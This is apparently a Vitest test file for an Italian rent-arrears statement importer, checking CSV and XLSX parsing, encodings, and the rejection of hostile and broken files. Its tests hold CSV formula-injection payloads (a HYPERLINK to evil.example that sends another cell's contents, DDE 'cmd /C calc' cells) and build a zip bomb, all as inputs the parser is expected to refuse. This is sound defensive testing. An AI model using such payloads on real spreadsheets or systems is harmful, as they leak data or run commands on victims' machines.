import ExcelJS from 'exceljs';
import { readFileSync } from 'node:fs';
import { once } from 'node:events';
import { createDeflateRaw } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { readStatementFile } from '../../electron/handlers/arrears/read-statement-file';
import { decodeText, detectDelimiter, parseCsvTable } from '../../shared/arrears/csv';
import {
  guessMapping,
  MAX_STATEMENT_BYTES,
  readStatementRows,
  StatementFileError,
  type RawTable,
  type StatementRow,
} from '../../shared/arrears/statement';

const SAMPLE = readFileSync(new URL('../fixtures/estratto_morosita_esempio.csv', import.meta.url));
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

/** The Italian message of the StatementFileError that `run` throws; fails on anything else. */
async function refusal(run: () => unknown): Promise<string> {
  try {
    await run();
  } catch (error) {
    expect(error).toBeInstanceOf(StatementFileError);
    return (error as Error).message;
  }
  throw new Error('expected a StatementFileError, the file was accepted');
}

/** Deterministic pseudo-random bytes (xorshift32), so that a failure can be replayed. */
function randomBytes(length: number, seed: number): Uint8Array {
  const bytes = new Uint8Array(length);
  let state = seed;
  for (let i = 0; i < length; i += 1) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    bytes[i] = state & 0xff;
  }
  return bytes;
}

/** A zip holding one file stored uncompressed (no CRC: readers that check it find a broken file anyway). */
function storedZip(name: string, content: Uint8Array): Uint8Array {
  const fileName = utf8(name);
  const local = new Uint8Array(30 + fileName.length + content.length);
  const lv = new DataView(local.buffer);
  lv.setUint32(0, 0x04034b50, true);
  lv.setUint16(4, 20, true);
  lv.setUint32(18, content.length, true);
  lv.setUint32(22, content.length, true);
  lv.setUint16(26, fileName.length, true);
  local.set(fileName, 30);
  local.set(content, 30 + fileName.length);
  return withCentralDirectory(local, fileName, 0, content.length, content.length);
}

function withCentralDirectory(
  local: Uint8Array,
  fileName: Uint8Array,
  method: number,
  compressed: number,
  uncompressed: number,
): Uint8Array {
  const central = new Uint8Array(46 + fileName.length);
  const cv = new DataView(central.buffer);
  cv.setUint32(0, 0x02014b50, true);
  cv.setUint16(4, 20, true);
  cv.setUint16(6, 20, true);
  cv.setUint16(10, method, true);
  cv.setUint32(20, compressed, true);
  cv.setUint32(24, uncompressed, true);
  cv.setUint16(28, fileName.length, true);
  central.set(fileName, 46);
  const end = new Uint8Array(22);
  const ev = new DataView(end.buffer);
  ev.setUint32(0, 0x06054b50, true);
  ev.setUint16(8, 1, true);
  ev.setUint16(10, 1, true);
  ev.setUint32(12, central.length, true);
  ev.setUint32(16, local.length, true);
  const zip = new Uint8Array(local.length + central.length + end.length);
  zip.set(local);
  zip.set(central, local.length);
  zip.set(end, local.length + central.length);
  return zip;
}

describe('CSV: encodings and delimiters', () => {
  it('reads the sample (UTF-8 with BOM, semicolons, CRLF)', async () => {
    const table = await readStatementFile('estratto_morosita_esempio.csv', SAMPLE);
    expect(table).toMatchObject({ encoding: 'utf-8', delimiter: ';', sheet: null, sheetNames: [] });
    expect(table.headers[0]).toBe('Codice alloggio');
    expect(table.rows).toHaveLength(30);
    expect(table.rows[5]?.cells[5]).toBe('COSTA NICOLÒ');
  });

  it('reads Windows-1252 bytes: Nicolò, Società, the euro sign', async () => {
    // ò = 0xF2, à = 0xE0, € = 0x80 in Windows-1252; not valid UTF-8.
    const text = [
      'Codice alloggio;Intestatario;Periodo;Dovuto;Versato;Saldo',
      'CR-1;Nicolò Costa;09/2026;€ 1.234,56;0;€ 1.234,56',
      'CR-2;Società Cooperativa Sociale;settembre 2026;10,00;10,00;0,00',
    ].join('\r\n');
    const bytes = Uint8Array.from(text, (char) => (char === '€' ? 0x80 : char.charCodeAt(0)));
    expect(bytes.filter((byte) => byte === 0xf2 || byte === 0xe0 || byte === 0x80)).toHaveLength(4);
    const table = await readStatementFile('estratto.csv', bytes);
    expect(table.encoding).toBe('windows-1252');
    const result = readStatementRows(table, guessMapping(table.headers));
    expect(result.errors).toEqual([]);
    expect(result.rows.map((r) => [r.tenantName, r.dueCents, r.balanceCents])).toEqual([
      ['Nicolò Costa', 123456, 123456],
      ['Società Cooperativa Sociale', 1000, 0],
    ]);
  });

  it('decodes the Windows-1252 characters that Latin-1 lacks (euro, curly quotes, Œ, Ÿ)', () => {
    const bytes = Uint8Array.from([0x80, 0x20, 0x92, 0x93, 0x94, 0x96, 0x8c, 0x9f, 0xe0, 0xf2]);
    expect(decodeText(bytes)).toEqual({ text: '€ ’“”–ŒŸàò', encoding: 'windows-1252' });
  });

  it('reads UTF-8 without BOM, and strips a BOM', () => {
    expect(decodeText(utf8('Società'))).toEqual({ text: 'Società', encoding: 'utf-8' });
    expect(decodeText(Uint8Array.from([0xef, 0xbb, 0xbf, ...utf8('Nicolò')]))).toEqual({
      text: 'Nicolò',
      encoding: 'utf-8',
    });
  });

  it('reads the same statement with tabs, with commas (plain numbers) and with semicolons alike', async () => {
    const base = readStatementRows(parseCsvTable(SAMPLE), guessMapping(parseCsvTable(SAMPLE).headers));
    const lines = SAMPLE.toString('utf8')
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    const tabbed = lines.map((line) => line.split(';').join('\t')).join('\n');
    // Comma-separated, as a program writes it: plain numbers, quotes around text with commas.
    const commas = lines
      .map((line, index) =>
        line
          .split(';')
          .map((cell) => {
            if (index > 0 && /^[\d.]+,\d\d$/.test(cell)) return cell.replace(/\./g, '').replace(',', '.');
            return cell.includes(',') ? `"${cell}"` : cell;
          })
          .join(','),
      )
      .join('\r\n');
    for (const [text, delimiter] of [
      [tabbed, '\t'],
      [commas, ','],
    ] as const) {
      expect(detectDelimiter(text)).toBe(delimiter);
      const table = await readStatementFile('estratto.txt', utf8(text));
      expect(table.delimiter).toBe(delimiter);
      const result = readStatementRows(table, guessMapping(table.headers));
      expect(result.errors).toEqual([]);
      expect(result.rows).toEqual(base.rows);
    }
    expect(commas.split('\r\n')[9]).toContain(',2457.00,12,decreto ingiuntivo');
  });

  it('detects the delimiter from the header and the lines that follow, quotes respected', () => {
    expect(detectDelimiter('a;b;c\n1,5;2,5;3\n4,5;5;6')).toBe(';');
    expect(detectDelimiter('a,b,c\n"1;5",2,3')).toBe(',');
    expect(detectDelimiter('"Cognome, nome";Periodo;Saldo\n"ROSSI, MARIO";09/2026;1,50')).toBe(';');
    expect(detectDelimiter('a\tb\n1\t2')).toBe('\t');
    expect(detectDelimiter('solo testo')).toBe(';');
  });

  it('keeps the line numbers of the file across blank lines and multi-line cells', () => {
    const table = parseCsvTable(
      utf8('\r\nCodice alloggio;Note;Periodo\r\n\r\nA1;"riga uno\r\nriga due";09/2026\r\nA2;;09/2026\r\n'),
    );
    expect(table.headers).toEqual(['Codice alloggio', 'Note', 'Periodo']);
    expect(table.rows).toEqual([
      { line: 4, cells: ['A1', 'riga uno\r\nriga due', '09/2026'] },
      { line: 5, cells: ['A2', '', '09/2026'] },
    ]);
  });

  it('passes over a title above the header', () => {
    const table = parseCsvTable(
      utf8(
        'ESTRATTO MOROSITÀ AL 30/09/2026;;;\n;;;\nCodice alloggio;Periodo;Versato;Saldo\nA1;09/2026;0;10\n',
      ),
    );
    expect(table.headers).toEqual(['Codice alloggio', 'Periodo', 'Versato', 'Saldo']);
    expect(table.rows).toEqual([{ line: 4, cells: ['A1', '09/2026', '0', '10'] }]);
  });
});

describe('hostile and broken files', () => {
  it('refuses a 50 MB file by its size, before reading it', async () => {
    // Valid text: read as CSV it would pass decoding and fail later as a one-column file,
    // so the size message shows the check came first.
    const huge = new Uint8Array(50 * 1024 * 1024).fill(0x41);
    expect(await refusal(() => readStatementFile('grande.csv', huge))).toBe(
      'Il file supera il limite di 10 MB (è di 50 MB): esportare dall’ufficio casa solo il periodo che serve, o dividere il file.',
    );
    expect(await refusal(() => parseCsvTable(huge))).toMatch(/^Il file supera il limite di 10 MB/);
    expect(await refusal(() => readStatementFile('x.xlsx', new Uint8Array(MAX_STATEMENT_BYTES + 1)))).toMatch(
      /^Il file supera il limite di 10 MB \(è di 10,0 MB\)/,
    );
  });

  it('refuses empty files, a lone BOM, blank lines, a header alone', async () => {
    expect(await refusal(() => readStatementFile('vuoto.csv', new Uint8Array(0)))).toBe('Il file è vuoto.');
    expect(await refusal(() => readStatementFile('bom.csv', Uint8Array.from([0xef, 0xbb, 0xbf])))).toBe(
      'Il file è vuoto.',
    );
    expect(await refusal(() => readStatementFile('righe.csv', utf8('\r\n\r\n  \r\n')))).toBe(
      'Il file è vuoto.',
    );
    expect(await refusal(() => readStatementFile('righe.csv', utf8(';;;\r\n;;;\r\n')))).toBe(
      'Il file è vuoto: non contiene righe con dati.',
    );
    expect(
      await refusal(() => readStatementFile('intestazione.csv', utf8('Codice alloggio;Periodo;Saldo\r\n'))),
    ).toBe('Il file contiene solo l’intestazione delle colonne: nessuna riga di dati.');
    expect(await refusal(() => readStatementFile('una.csv', utf8('Codice alloggio\nA1\nA2\n')))).toMatch(
      /^Il file ha una sola colonna: .*separate da ; oppure , oppure da una tabulazione/,
    );
  });

  it('reads a CSV cut in the middle of a row: the rows before it, an error on the cut one', async () => {
    const text = SAMPLE.toString('utf8');
    const cut = text.indexOf('CR-0101-A22') + 'CR-0101-A22;Via Giuseppe Verdi 12;A;2;2;ESPO'.length;
    const table = await readStatementFile(
      'troncato.csv',
      SAMPLE.subarray(0, Buffer.byteLength(text.slice(0, cut))),
    );
    expect(table.rows.map((row) => row.line)).toEqual([2, 3, 4, 5, 6]);
    const result = readStatementRows(table, guessMapping(table.headers));
    expect(result.rows.map((row) => row.line)).toEqual([2, 3, 4, 5]);
    expect(result.errors.map((error) => [error.line, error.column, error.message])).toEqual([
      [6, 'Periodo', 'Periodo mancante: usare mm/aaaa, ad esempio 09/2026, oppure «settembre 2026».'],
      [6, 'Totale dovuto', 'Totale dovuto: Importo mancante: scrivere ad esempio 1.234,56 (0 se è zero).'],
      [6, 'Versato', 'Versato: Importo mancante: scrivere ad esempio 1.234,56 (0 se è zero).'],
      [6, 'Saldo morosità', 'Saldo morosità: Importo mancante: scrivere ad esempio 1.234,56 (0 se è zero).'],
    ]);
  });

  it('refuses a CSV cut inside a quoted cell, naming the line', async () => {
    const text =
      'Codice alloggio;Intestatario;Periodo\r\nA1;ROSSI;09/2026\r\nA2;"BIANCHI\r\nA3;VERDI;09/2026';
    expect(await refusal(() => readStatementFile('virgolette.csv', utf8(text)))).toBe(
      'Il file è incompleto o danneggiato: le virgolette aperte alla riga 3 non vengono chiuse. Controllare quella riga o esportare di nuovo il file.',
    );
  });

  it('refuses random bytes, with and without NUL bytes', async () => {
    const noise = randomBytes(4096, 0x2545f491);
    expect(await refusal(() => readStatementFile('dati.csv', noise))).toBe(
      'Il file non sembra un CSV: contiene dati binari (forse è un’immagine, un PDF o il file di un altro programma).',
    );
    const noNul = noise.map((byte) => (byte === 0 ? 1 : byte));
    expect(await refusal(() => readStatementFile('dati.csv', noNul))).toBe(
      'Il file non sembra un CSV: contiene troppi caratteri di controllo (forse è un file binario o danneggiato).',
    );
    // Random bytes called .xlsx are not a workbook either.
    expect(await refusal(() => readStatementFile('dati.xlsx', noNul))).toBe(
      'Il file Excel è danneggiato o incompleto: aprirlo con Excel e salvarlo di nuovo come .xlsx, oppure esportarlo come CSV.',
    );
  });

  it('names known binary formats: PNG, PDF, UTF-16, old .xls, .ods, a web page saved as .xls', async () => {
    const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48]);
    expect(await refusal(() => readStatementFile('estratto.csv', png))).toBe(
      'Il file non sembra un CSV: è un’immagine PNG.',
    );
    expect(await refusal(() => readStatementFile('estratto.xlsx', png))).toBe(
      'Il file non è un file Excel: è un’immagine PNG.',
    );
    expect(await refusal(() => readStatementFile('estratto.csv', utf8('%PDF-1.7\n%âãÏÓ\n')))).toBe(
      'Il file non sembra un CSV: è un PDF.',
    );
    expect(
      await refusal(() => readStatementFile('unicode.txt', Uint8Array.from([0xff, 0xfe, 0x41, 0x00]))),
    ).toMatch(/^Il file è in formato Unicode UTF-16 .*salvarlo come «CSV UTF-8» oppure come \.xlsx\.$/);
    const ole2 = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);
    expect(await refusal(() => readStatementFile('estratto.xls', ole2))).toMatch(
      /^formato \.xls non supportato: salvare come \.xlsx o CSV/,
    );
    expect(await refusal(() => readStatementFile('estratto.ods', utf8('PK')))).toBe(
      'formato .ods (LibreOffice) non supportato: salvare come .xlsx o CSV.',
    );
    expect(
      await refusal(() => readStatementFile('estratto.xls', utf8('<html><table><tr><td>1</td></tr>'))),
    ).toMatch(/^formato \.xls non supportato: il file è in realtà una pagina web/);
    // Text saved as .xls (tab-separated, as some web applications do) is read as what it is.
    const tsv = await readStatementFile('estratto.xls', utf8('Codice alloggio\tPeriodo\nA1\t09/2026\n'));
    expect(tsv).toMatchObject({ delimiter: '\t', headers: ['Codice alloggio', 'Periodo'] });
  });

  it('refuses corrupt zips and zips that are not workbooks', async () => {
    const corrupt = Uint8Array.from([0x50, 0x4b, 0x03, 0x04, ...randomBytes(2000, 7)]);
    expect(await refusal(() => readStatementFile('estratto.xlsx', corrupt))).toBe(
      'Il file Excel è danneggiato o incompleto: aprirlo con Excel e salvarlo di nuovo come .xlsx, oppure esportarlo come CSV.',
    );
    expect(
      await refusal(() => readStatementFile('estratto.xlsx', storedZip('leggimi.txt', utf8('ciao')))),
    ).toBe('Il file è un archivio zip ma non un file Excel (.xlsx): esportare l’estratto come .xlsx o CSV.');
    expect(
      await refusal(() => readStatementFile('estratto.xlsx', storedZip('xl/workbook.xml', utf8('rotto')))),
    ).toBe(
      'Il file Excel è danneggiato o incompleto: aprirlo con Excel e salvarlo di nuovo come .xlsx, oppure esportarlo come CSV.',
    );
    // A renamed .xlsx is read by its content whatever the name says.
    expect(
      await refusal(() => readStatementFile('estratto.csv', storedZip('leggimi.txt', utf8('ciao')))),
    ).toMatch(/archivio zip ma non un file Excel/);
  });

  it('refuses a zip bomb: parts that decompress beyond 300 MB, whatever sizes they declare', async () => {
    const deflate = createDeflateRaw({ level: 1 });
    const chunks: Buffer[] = [];
    deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
    const zeros = Buffer.alloc(1024 * 1024);
    for (let i = 0; i < 310; i += 1) deflate.write(zeros);
    deflate.end();
    await once(deflate, 'end');
    const data = Buffer.concat(chunks);
    const name = utf8('xl/workbook.xml');
    const local = new Uint8Array(30 + name.length + data.length);
    const lv = new DataView(local.buffer);
    lv.setUint32(0, 0x04034b50, true);
    lv.setUint16(8, 8, true);
    lv.setUint32(18, data.length, true);
    lv.setUint32(22, 1000, true); // a lie
    lv.setUint16(26, name.length, true);
    local.set(name, 30);
    local.set(data, 30 + name.length);
    const bomb = withCentralDirectory(local, name, 8, data.length, 1000);
    expect(bomb.length).toBeLessThan(MAX_STATEMENT_BYTES);
    expect(await refusal(() => readStatementFile('bomba.xlsx', bomb))).toMatch(
      /^Il file Excel, una volta decompresso, è troppo grande/,
    );
  });

  it('turns malicious cells into row errors: formulas, huge numbers, impossible dates', async () => {
    const text = [
      'Codice alloggio;Intestatario;Periodo;Dovuto;Versato;Saldo;Data ultimo pagamento',
      'A1;"=HYPERLINK(""http://evil.example/?x=""&A2;""clic"")";09/2026;10;0;10;',
      "A2;+cmd|' /C calc'!A0;09/2026;10;0;10;",
      "A3;@SUM(1+1)*cmd|' /C calc'!A0;09/2026;10;0;10;",
      '=1+2;ROSSI;09/2026;10;0;10;',
      'A5;ROSSI;09/2026;1e308;0;99999999999999999999999;',
      'A6;ROSSI;09/2026;10;0;10;31/02/2024',
      'A7;ROSSI;09/2026;10;0;10;15/09/2026',
    ].join('\n');
    const table = await readStatementFile('cattivo.csv', utf8(text));
    const result = readStatementRows(table, guessMapping(table.headers));
    expect(result.rows).toEqual<StatementRow[]>([
      {
        line: 8,
        unitCode: 'A7',
        taxCode: null,
        tenantName: 'ROSSI',
        period: '2026-09',
        rentCents: null,
        chargesCents: null,
        dueCents: 1000,
        paidCents: 0,
        balanceCents: 1000,
        monthsUnpaid: null,
        legalStage: null,
        lastPaymentDate: '2026-09-15',
      },
    ]);
    expect(result.errors.map((error) => [error.line, error.column])).toEqual([
      [2, 'Intestatario'],
      [3, 'Intestatario'],
      [4, 'Intestatario'],
      [5, 'Codice alloggio'],
      [6, 'Dovuto'],
      [6, 'Saldo'],
      [7, 'Data ultimo pagamento'],
    ]);
    const messages = result.errors.map((error) => error.message);
    expect(messages.slice(0, 4).every((message) => message.includes('sembra una formula'))).toBe(true);
    expect(messages[4]).toBe(
      'Totale dovuto: «1e308» non è un importo valido: scrivere ad esempio 1.234,56 (solo cifre, senza altre parole).',
    );
    expect(messages[5]).toBe(
      "Saldo morosità: «99999999999999999999999» supera il limite di 10.000.000 €: controllare l'importo.",
    );
    expect(messages[6]).toBe('«31/02/2024» non è una data valida: usare gg/mm/aaaa.');
  });

  it('never throws anything but StatementFileError, whatever the bytes', async () => {
    const sampleText = SAMPLE.toString('utf8');
    const inputs: [string, Uint8Array][] = [];
    for (let seed = 1; seed <= 20; seed += 1) {
      inputs.push([`r${seed}.csv`, randomBytes(seed * 37, seed)]);
      inputs.push([
        `r${seed}.xlsx`,
        Uint8Array.from([0x50, 0x4b, 0x03, 0x04, ...randomBytes(seed * 53, seed)]),
      ]);
      // The sample with a few bytes overwritten.
      const damaged = Uint8Array.from(SAMPLE);
      const noise = randomBytes(8, seed);
      for (let i = 0; i < 8; i += 1)
        damaged[((noise[i] ?? 0) * 7 * seed) % damaged.length] = noise[(i + 1) % 8] ?? 0;
      inputs.push([`d${seed}.csv`, damaged]);
      inputs.push([`t${seed}.csv`, utf8(sampleText.slice(0, seed * 97))]);
    }
    for (const [name, bytes] of inputs) {
      let table: RawTable | null = null;
      try {
        table = await readStatementFile(name, bytes);
      } catch (error) {
        expect(error, name).toBeInstanceOf(StatementFileError);
        expect((error as Error).message, name).toMatch(/[àèéìòù]|file|Il /);
      }
      if (table) {
        const mapping = guessMapping(table.headers);
        try {
          readStatementRows(table, mapping);
        } catch (error) {
          // Only a mapping that lacks fields may throw, and in Italian.
          expect(error, name).toBeInstanceOf(StatementFileError);
          expect((error as Error).message, name).toMatch(/^Indicare la colonna/);
        }
      }
    }
  });
});

describe('XLSX', () => {
  /** A workbook as an office might send it: a notes sheet first, the statement second, under a title. */
  async function statementWorkbook(): Promise<Uint8Array> {
    const workbook = new ExcelJS.Workbook();
    const notes = workbook.addWorksheet('Note');
    notes.addRow(['Estratto inviato dall’ufficio casa']);
    notes.addRow(['Importi in euro']);
    const sheet = workbook.addWorksheet('Settembre 2026');
    sheet.addRow(['Estratto morosità al 30/09/2026']);
    sheet.addRow([]);
    sheet.addRow([
      'Codice alloggio',
      'Intestatario',
      'Periodo',
      'Canone',
      'Spese',
      'Totale dovuto',
      'Versato',
      'Saldo morosità',
      'Mensilità insolute',
      'Stato legale',
      'Data ultimo pagamento',
    ]);
    sheet.addRow([
      'cr-0101-b22',
      { richText: [{ text: 'FERRARI ', font: { bold: true } }, { text: 'CARLA' }] },
      new Date(Date.UTC(2026, 8, 1)),
      143.75,
      61,
      { formula: 'D4+E4', result: 204.75 },
      0,
      2457,
      12,
      'D.I.',
      new Date(Date.UTC(2026, 0, 31)),
    ]);
    sheet.addRow([
      'CR-0102-A02',
      { text: 'LOMBARDI SALVATORE', hyperlink: 'mailto:lombardi@example.org' },
      '09/2026',
      98.4,
      35,
      { formula: 'D5+E5', result: 133.4 },
      66.7,
      333.5,
      { error: '#N/A' },
      'sollecito',
      46266, // a serial date stored as a plain number
    ]);
    sheet.addRow([
      'CR-0102-A11',
      '=HYPERLINK("http://evil.example","clic")',
      'set-26',
      98.4,
      35,
      { formula: 'D6+E6', result: 133.4 },
      0,
      1600.8,
      12,
      'decreto ingiuntivo',
      null,
    ]);
    sheet.addRow([
      'Totale',
      null,
      null,
      { formula: 'SUM(D4:D6)', result: 340.55 },
      { formula: 'SUM(E4:E6)', result: 131 },
      { formula: 'SUM(F4:F6)', result: 471.55 },
      { formula: 'SUM(G4:G6)', result: 66.7 },
      { formula: 'SUM(H4:H6)', result: 4391.3 },
    ]);
    sheet.getCell('C4').numFmt = 'mmm-yy';
    sheet.getCell('K4').numFmt = 'dd/mm/yyyy';
    return new Uint8Array(await workbook.xlsx.writeBuffer());
  }

  it('reads the sheet chosen by name: dates, numbers, cached formula results, rich text, links, errors', async () => {
    const bytes = await statementWorkbook();
    const table = await readStatementFile('estratto.xlsx', bytes, 'Settembre 2026');
    expect(table).toMatchObject({ sheetNames: ['Note', 'Settembre 2026'], sheet: 'Settembre 2026' });
    expect(table.encoding).toBeNull();
    expect(table.delimiter).toBeNull();
    expect(table.headers[0]).toBe('Codice alloggio');
    expect(table.rows.map((row) => row.line)).toEqual([4, 5, 6, 7]);
    expect(table.rows[0]?.cells).toEqual([
      'cr-0101-b22',
      'FERRARI CARLA',
      '2026-09-01',
      143.75,
      61,
      204.75,
      0,
      2457,
      12,
      'D.I.',
      '2026-01-31',
    ]);
    // Formula text never reaches the table, only the cached results.
    const allCells = table.rows.flatMap((row) => row.cells);
    expect(allCells.some((cell) => typeof cell === 'string' && cell.startsWith('SUM'))).toBe(false);
    expect(table.rows[1]?.cells[8]).toBeNull();

    const result = readStatementRows(table, guessMapping(table.headers));
    expect(result.skippedLines).toBe(1); // the totals line
    expect(result.rows).toEqual<StatementRow[]>([
      {
        line: 4,
        unitCode: 'CR-0101-B22',
        taxCode: null,
        tenantName: 'FERRARI CARLA',
        period: '2026-09',
        rentCents: 14375,
        chargesCents: 6100,
        dueCents: 20475,
        paidCents: 0,
        balanceCents: 245700,
        monthsUnpaid: 12,
        legalStage: 'decreto_ingiuntivo',
        lastPaymentDate: '2026-01-31',
      },
      {
        line: 5,
        unitCode: 'CR-0102-A02',
        taxCode: null,
        tenantName: 'LOMBARDI SALVATORE',
        period: '2026-09',
        rentCents: 9840,
        chargesCents: 3500,
        dueCents: 13340,
        paidCents: 6670,
        balanceCents: 33350,
        monthsUnpaid: null,
        legalStage: 'sollecito',
        lastPaymentDate: '2026-09-01',
      },
    ]);
    expect(result.errors).toEqual([
      {
        line: 6,
        column: 'Intestatario',
        message:
          '«=HYPERLINK("http://evil.example","clic")» sembra una formula: un testo non può iniziare con =, +, @ o una tabulazione (togliere il primo carattere).',
      },
    ]);
  });

  it('reads the first sheet by default and refuses an unknown sheet, listing the sheets', async () => {
    const bytes = await statementWorkbook();
    expect(await refusal(() => readStatementFile('estratto.xlsx', bytes))).toMatch(
      /^Il file ha una sola colonna/,
    );
    expect(await refusal(() => readStatementFile('estratto.xlsx', bytes, 'Ottobre'))).toBe(
      'Il foglio «Ottobre» non c’è nel file: i fogli sono «Note», «Settembre 2026».',
    );
    const table = await readStatementFile('estratto.xlsx', bytes, ' settembre 2026 ');
    expect(table.sheet).toBe('Settembre 2026');
  });

  it('refuses an empty sheet and an XLSX cut short', async () => {
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Vuoto');
    workbook.addWorksheet('Altro').addRow(['Codice alloggio', 'Periodo']);
    const bytes = new Uint8Array(await workbook.xlsx.writeBuffer());
    expect(await refusal(() => readStatementFile('vuoto.xlsx', bytes))).toBe(
      'Il foglio «Vuoto» è vuoto: scegliere un altro foglio («Vuoto», «Altro»).',
    );
    const full = await statementWorkbook();
    for (const length of [10, 200, Math.floor(full.length / 2), full.length - 30]) {
      expect(await refusal(() => readStatementFile('troncato.xlsx', full.subarray(0, length)))).toBe(
        'Il file Excel è danneggiato o incompleto: aprirlo con Excel e salvarlo di nuovo come .xlsx, oppure esportarlo come CSV.',
      );
    }
  });
});
